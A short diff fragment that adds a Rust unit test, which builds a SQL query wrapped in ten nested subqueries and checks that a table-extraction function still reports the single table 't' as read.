+    let shallow = format!(
+        "SELECT * FROM {}t{}",
+        "(SELECT * FROM ".repeat(10),
+        ") x".repeat(10)
+    );
+    assert_eq!(tables(&shallow), ["r:t"]);
+}
